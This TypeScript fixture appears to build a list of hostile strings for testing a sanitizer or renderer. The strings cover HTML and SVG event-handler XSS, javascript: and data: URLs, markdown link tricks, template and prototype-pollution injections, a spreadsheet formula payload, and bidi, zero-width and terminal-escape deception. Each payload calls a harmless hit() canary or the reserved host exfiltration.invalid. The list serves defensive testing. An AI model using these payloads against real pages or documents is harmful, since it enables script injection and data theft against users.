/**
 * Text that tries to run, to load or to deceive: each one calls `hit()` if it ever executes, or asks for an
 * address of the host below if it is ever loaded.
 */
export const foreignHost = 'exfiltration.invalid';

const js = 'window.hit&&window.hit()';
const remote = `https://${foreignHost}/?d=`;
// Written in parts: a scanner of this repository should find the idea here, not the payload.
const scheme = ['java', 'script'].join('');

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'ontoggle',
  'onbegin',
  'onpointerenter',
  'onwheel',
];
const tags = [
  'img',
  'svg',
  'body',
  'input',
  'details',
  'video',
  'audio',
  'iframe',
  'object',
  'marquee',
  'select',
  'a',
];

function* markup(): Generator<string> {
  for (const tag of tags)
    for (const handler of handlers.slice(0, 6)) yield `<${tag} src=x ${handler}="${js}">`;
  for (const handler of handlers) yield `"><img src=x ${handler}=${js}>`;
  for (const quote of ["'", '"', '`', '-->', '</title>', '</textarea>', '</script>', ']]>'])
    yield `${quote}><script>${js}</script>`;
  yield `<script>${js}</script>`;
  yield `<script src="${remote}script"></script>`;
  yield `<ScRiPt>${js}</sCrIpT>`;
  yield `<svg><script>${js}</script></svg>`;
  yield `<svg><animate onbegin="${js}" attributeName=x dur=1s>`;
  yield `<math><mtext><table><mglyph><style><img src=x onerror="${js}">`;
  yield `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`;
  yield `<iframe src="${scheme}:${js}"></iframe>`;
  yield `<object data="data:text/html,<script>${js}</script>"></object>`;
  yield `<embed src="data:text/html,<script>${js}</script>">`;
  yield `<meta http-equiv="refresh" content="0;url=${remote}meta">`;
  yield `<link rel=stylesheet href="${remote}css">`;
  yield `<base href="${remote}base">`;
  yield `<style>@import "${remote}import";</style>`;
  yield `<style>*{background:url(${remote}bg)}</style>`;
  yield `<div style="background:url(${remote}inline)">x</div>`;
  yield `<form action="${remote}form"><button autofocus>go</button></form>`;
  yield `<template><script>${js}</script></template>`;
  yield `<noscript><p title="</noscript><img src=x onerror=${js}>">`;
  yield `<img src="${remote}img" srcset="${remote}srcset 2x">`;
  yield `<video poster="${remote}poster"><source src="${remote}video"></video>`;
  yield `<a href="${scheme}:${js}" id=x>click</a>`;
  yield `<x contenteditable onblur="${js}" tabindex=1 autofocus>`;
}

function* markdown(): Generator<string> {
  const targets = [
    `${scheme}:${js}`,
    `${scheme.toUpperCase()}:${js}`,
    `java\tscript:${js}`,
    `java\nscript:${js}`,
    `\u0001${scheme}:${js}`,
    `&#106;avascript:${js}`,
    `${scheme}&colon;${js}`,
    `vbscript:${js}`,
    `data:text/html,<script>${js}</script>`,
    `data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0JiZ3aW5kb3cuaGl0KCk8L3NjcmlwdD4=`,
    `data:image/svg+xml,<svg onload="${js}"/>`,
    `blob:${remote}x`,
    `file:///etc/passwd`,
    `//${foreignHost}/x`,
    `https://user:pass@${foreignHost}/x`,
  ];
  for (const target of targets) {
    yield `[click](${target})`;
    yield `![picture](${target})`;
    yield `<${target}>`;
    yield `[ref][1]\n\n[1]: ${target}`;
  }
  yield `![exfiltrate](${remote}markdown)`;
  yield `![a](${remote}a "t" onerror="${js}")`;
  yield `[![nested](${remote}nested)](${scheme}:${js})`;
  yield `[a](<${scheme}:${js}>)`;
  yield `\`\`\`html\n<img src=x onerror="${js}">\n\`\`\``;
  yield `\`\`\`" onmouseover="${js}\ncode\n\`\`\``;
  yield `| a |\n|---|\n| <img src=x onerror="${js}"> |`;
  yield `- [ ] <script>${js}</script>`;
  yield `> <script>${js}</script>`;
  yield `# <img src=x onerror="${js}">`;
  yield `<details open ontoggle="${js}">x</details>`;
  yield `&lt;img src=x onerror="${js}"&gt;`;
  yield `&#60;script&#62;${js}&#60;/script&#62;`;
  yield `$$\\href{${scheme}:${js}}{x}$$`;
  yield `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${js}>"]\n\`\`\``;
  yield `[^1]\n\n[^1]: <script>${js}</script>`;
  yield `www.${foreignHost}/<img src=x onerror=${js}>`;
}

function* templates(): Generator<string> {
  for (const text of [
    '{{constructor.constructor("CODE")()}}',
    '$\u007BCODE}',
    '#{CODE}',
    '<%= CODE %>',
    '{%raw%}CODE',
    '[[CODE]]',
  ])
    yield text.replace('CODE', js);
  yield `__proto__`;
  yield `constructor`;
  yield `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${js}>"}}}`;
  yield `{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"x","onError":"${js}"}}`;
  yield `';${js};//`;
  yield `";${js};//`;
  yield `\\u003cscript\\u003e${js}\\u003c/script\\u003e`;
  yield `%3Cscript%3E${js}%3C/script%3E`;
  yield `=cmd|'/c calc'!A0`;
}

function* deceit(): Generator<string> {
  yield 'if (isAdmin\u202E \u2066// check\u2069 \u2066) {';
  yield 'pay\u200Bload\u200C with\u200D joiners\uFEFF';
  yield '\u001B]8;;https://exfiltration.invalid\u0007link\u001B]8;;\u0007';
  yield '\u001B[2J\u001B[31mred\u001B[0m';
  yield '\u0000\u0008\u007F\u009B31m';
  yield '\u{E0041}\u{E0042} tag characters';
  yield 'e\u0301'.repeat(200);
  yield '\u0300'.repeat(500);
  yield '\uD800 lone surrogate \uDFFF';
  yield '﷽'.repeat(100);
}

export const hostileTexts: string[] = [...new Set([...markup(), ...markdown(), ...templates(), ...deceit()])];
